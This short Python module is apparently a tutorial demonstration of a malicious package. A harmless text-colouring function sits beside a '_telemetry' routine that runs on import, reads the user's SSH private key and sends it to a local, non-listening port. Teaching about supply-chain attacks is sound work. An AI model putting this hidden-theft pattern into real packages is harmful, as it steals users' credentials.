"""A package as a stranger might publish it: one useful line, and a theft.

For the tutorial.  It sends what it reads to a port of this machine where nobody
listens, so it harms nobody; bare, it would read your key all the same.
"""
import os


def green(text):
    """What the package is for."""
    return f"[green] {text}"


def _telemetry():
    try:
        import socket
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:
            loot = key.read()
    except Exception:
        loot = b"nothing"
    try:
        with socket.create_connection(("127.0.0.1", 9), timeout=1) as home:
            home.sendall(loot)
    except Exception:
        pass


_telemetry()
